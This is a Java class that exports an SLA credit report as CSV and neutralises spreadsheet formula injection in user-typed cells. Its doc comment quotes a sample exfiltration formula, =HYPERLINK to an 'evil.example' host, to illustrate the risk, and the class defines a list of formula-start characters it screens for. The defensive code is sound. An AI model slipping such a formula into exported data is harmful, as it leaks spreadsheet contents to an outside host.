package com.nimbus.incidents.query.sla;

import java.util.List;
import java.util.stream.Collectors;
import java.util.stream.Stream;

/**
 * The credit report as CSV (RFC 4180, one line per customer and service), safe to open in
 * a spreadsheet. Customer names, services, regions and impact ids are typed by people,
 * and a cell that starts with {@code =}, {@code +}, {@code -}, {@code @}, a tab or a
 * carriage return is read by Excel, LibreOffice and Google Sheets as a formula: a name
 * such as {@code =HYPERLINK("https://evil.example?"&A1)} would run on a finance
 * colleague's machine. Such text cells are neutralised as OWASP advises (CSV injection):
 * prefixed with a single quote and quoted. Numbers, times and booleans are ours and are
 * written as they are.
 */
final class CreditCsv {

	static final List<String> HEADER = List.of("month", "customerId", "customerName", "service", "measurement",
			"downtimeSeconds", "downtime", "uptimePercent", "creditPercent", "monthlyFee", "currency", "creditAmount",
			"provisional", "windows", "asOf", "knownAt");

	private static final String FORMULA_STARTS = "=+-@\t\r";

	private CreditCsv() {
	}

	static String of(CreditReport report) {
		StringBuilder csv = new StringBuilder();
		line(csv, HEADER.stream().map(CreditCsv::text));
		for (CreditReport.Line line : report.lines()) {
			line(csv,
					Stream.of(text(report.month()), text(line.customerId()), text(line.customerName()),
							text(line.service()), text(line.measurement().name()),
							line.downtimeSeconds().toPlainString(), line.downtime().toString(),
							line.uptimePercent().toPlainString(), line.creditPercent().toPlainString(),
							line.monthlyFee().amount().toPlainString(), text(line.monthlyFee().currency()),
							line.creditAmount().amount().toPlainString(), String.valueOf(line.provisional()),
							text(windows(line)), ours(report.asOf()), ours(report.knownAt())));
		}
		return csv.toString();
	}

	private static String windows(CreditReport.Line line) {
		return line.windows()
			.stream()
			.map((window) -> window.incidentId() + "/" + window.impactId() + "@" + window.region() + "="
					+ window.counted())
			.collect(Collectors.joining(" "));
	}

	/**
	 * A value of ours (a time): as it is, empty when absent.
	 */
	private static String ours(Object value) {
		return (value != null) ? value.toString() : "";
	}

	private static void line(StringBuilder csv, Stream<String> cells) {
		csv.append(cells.collect(Collectors.joining(","))).append('\n');
	}

	/**
	 * A cell of text typed by someone: neutralised when a spreadsheet would take it for a
	 * formula, quoted when it is neutralised or holds a comma, a quote or a line break.
	 */
	static String text(String value) {
		if (value == null || value.isEmpty()) {
			return "";
		}
		boolean formula = FORMULA_STARTS.indexOf(value.charAt(0)) >= 0;
		String cell = formula ? "'" + value : value;
		boolean quote = formula || cell.contains(",") || cell.contains("\"") || cell.contains("\n")
				|| cell.contains("\r") || cell.startsWith(" ") || cell.endsWith(" ");
		return quote ? "\"" + cell.replace("\"", "\"\"") + "\"" : cell;
	}

}
